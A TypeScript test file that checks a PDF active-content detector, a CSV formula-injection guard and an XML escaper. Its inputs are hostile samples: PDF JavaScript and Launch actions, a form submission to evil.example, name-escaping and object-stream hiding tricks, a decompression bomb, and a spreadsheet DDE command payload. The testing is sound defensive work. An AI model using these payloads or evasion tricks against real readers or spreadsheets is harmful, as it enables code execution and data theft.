import { deflateSync, inflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { csvCell } from "./csv";
import { xmlEscape } from "./feeds.server";
import { inspectPdf, minimalPdf } from "./pdf";

describe("the letter check reads the PDF's structure", () => {
  it("accepts a PDF with its header at byte 0 and a cross-reference table", () => {
    expect(inspectPdf(minimalPdf())).toBe("ok");
  });
  it("refuses a header that is not at byte 0, or no cross-reference", () => {
    expect(inspectPdf(Buffer.concat([Buffer.from("<html>"), minimalPdf()]))).toBe("not-pdf");
    expect(inspectPdf(Buffer.from("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"))).toBe("not-pdf");
    expect(inspectPdf(Buffer.from("PK\u0003\u0004 a zip renamed to .pdf"))).toBe("not-pdf");
  });
  it("refuses JavaScript and launch actions, also when their names are escaped", () => {
    expect(inspectPdf(minimalPdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "))).toBe("active-content");
    expect(inspectPdf(minimalPdf("/OpenAction << /S /Launch /F (cmd.exe) >> "))).toBe("active-content");
    expect(inspectPdf(minimalPdf("/OpenAction << /S /J#61vaScript >> "))).toBe("active-content");
    expect(inspectPdf(minimalPdf("/AcroForm << /Fields [] /XFA 9 0 R >> "))).toBe("active-content");
    for (const action of ["/S /SubmitForm /F (https://evil.example/)", "/S /ImportData /F (data.fdf)", "/S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit]"])
      expect(inspectPdf(minimalPdf(`/OpenAction << ${action} >> `)), action).toBe("active-content");
    expect(inspectPdf(minimalPdf("/OpenAction << /S /URI /URI (https://www.itu.int/) >> "))).toBe("ok");
  });
  it("reads the objects compressed in object streams (PDF 1.5), where their names are not in the file's bytes", () => {
    const script = "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> << /Type /Pages /Kids [] /Count 0 >> << /S /JavaScript /JS (app.alert(1)) >>";
    const plain = "<< /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [] /Count 0 >>";
    const flate = (body: string) => deflateSync(Buffer.from(body, "latin1"));
    expect(Buffer.from(pdfWithObjectStream(flate(script), "/Filter /FlateDecode")).includes("JavaScript")).toBe(false);
    expect(inspectPdf(pdfWithObjectStream(flate(script), "/Filter /FlateDecode"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(flate(script), "/Filter [/FlateDecode]"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(Buffer.from(script, "latin1"), ""))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(flate(plain), "/Filter /FlateDecode"))).toBe("ok");
    // A stream that cannot be read is not taken on trust: another filter, broken data, a bomb.
    expect(inspectPdf(pdfWithObjectStream(Buffer.from("<~9jqo^~>"), "/Filter /ASCII85Decode"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(Buffer.from("not deflated"), "/Filter /FlateDecode"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(deflateSync(Buffer.alloc(40 * 1024 * 1024)), "/Filter /FlateDecode"))).toBe("active-content");
  });
  it("undoes a PNG predictor before reading an object stream, and finds its dictionary however far padding pushes it", () => {
    const script = "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> << /Type /Pages /Kids [] /Count 0 >> << /S /JavaScript /JS (app.alert(1)) >>";
    const plain = "<< /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [] /Count 0 >>";
    const predicted = (body: string) => deflateSync(pngUp(Buffer.from(body, "latin1"), 8));
    const parms = "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>";
    expect(inflateSync(predicted(script)).includes("JavaScript")).toBe(false);
    expect(inspectPdf(pdfWithObjectStream(predicted(script), parms))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(predicted(script), "/Filter /FlateDecode /D#65codeParms [<< /Pr#65dictor 12 /Columns 8 >>]"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(predicted(plain), parms))).toBe("ok");
    // Parameters it cannot read: kept in another object, or a predictor it does not undo.
    expect(inspectPdf(pdfWithObjectStream(predicted(plain), "/Filter /FlateDecode /DecodeParms 9 0 R"))).toBe("active-content");
    expect(inspectPdf(pdfWithObjectStream(predicted(plain), "/Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 8 >>"))).toBe("active-content");
    // `/Type /ObjStm` 4 KB before the stream keyword, behind a padding name.
    const padded = `/Type /ObjStm /Pad (${"x".repeat(4096)}) /Filter /FlateDecode`;
    expect(inspectPdf(pdfWithObjectStream(deflateSync(Buffer.from(script, "latin1")), padded, false))).toBe("active-content");
  });
});

/** Rows of `columns` bytes, each stored as PNG's "Up" filter (type 2): its difference from the row above. */
function pngUp(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.concat([data, Buffer.alloc(rows * columns - data.length, 32)]);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    out[r * (columns + 1)] = 2;
    for (let x = 0; x < columns; x++) out[r * (columns + 1) + 1 + x] = (padded[r * columns + x]! - (r > 0 ? padded[(r - 1) * columns + x]! : 0)) & 255;
  }
  return out;
}

/** A PDF 1.5 whose objects sit in one object stream, found through a cross-reference stream. */
function pdfWithObjectStream(data: Buffer, filter: string, typed = true): Buffer {
  const head = Buffer.from("%PDF-1.5\n", "latin1");
  const stream = Buffer.concat([
    Buffer.from(`5 0 obj\n<< ${typed ? "/Type /ObjStm " : ""}/N 3 /First 12 ${filter} /Length ${data.length} >>\nstream\n`, "latin1"),
    data,
    Buffer.from("\nendstream\nendobj\n", "latin1"),
  ]);
  const xrefAt = head.length + stream.length;
  const xref = Buffer.from(
    `6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 2 1] /Length 0 >>\nstream\n\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`,
    "latin1",
  );
  return Buffer.concat([head, stream, xref]);
}

describe("open data and feeds stay inert", () => {
  it("guards CSV cells that a spreadsheet would read as a formula, also after ; tabs or spaces", () => {
    for (const s of ["=1+1", "+1", "-1", "@SUM(A1)", ";=cmd|' /C calc'!A0", "\t=1", "   =1", " ;\t@x"]) {
      expect(csvCell(s).replace(/^"/, "")).toMatch(/^'/);
    }
    expect(csvCell("Ministère")).toBe("Ministère");
  });
  it("strips characters XML forbids", () => {
    expect(xmlEscape("a\u0000b\u0008c\u000Bd\uFFFEe\uD800f & <g>")).toBe("abcdef &amp; &lt;g&gt;");
    expect(xmlEscape("emoji 🌍 and tab\tline\n")).toBe("emoji 🌍 and tab\tline\n");
  });
});
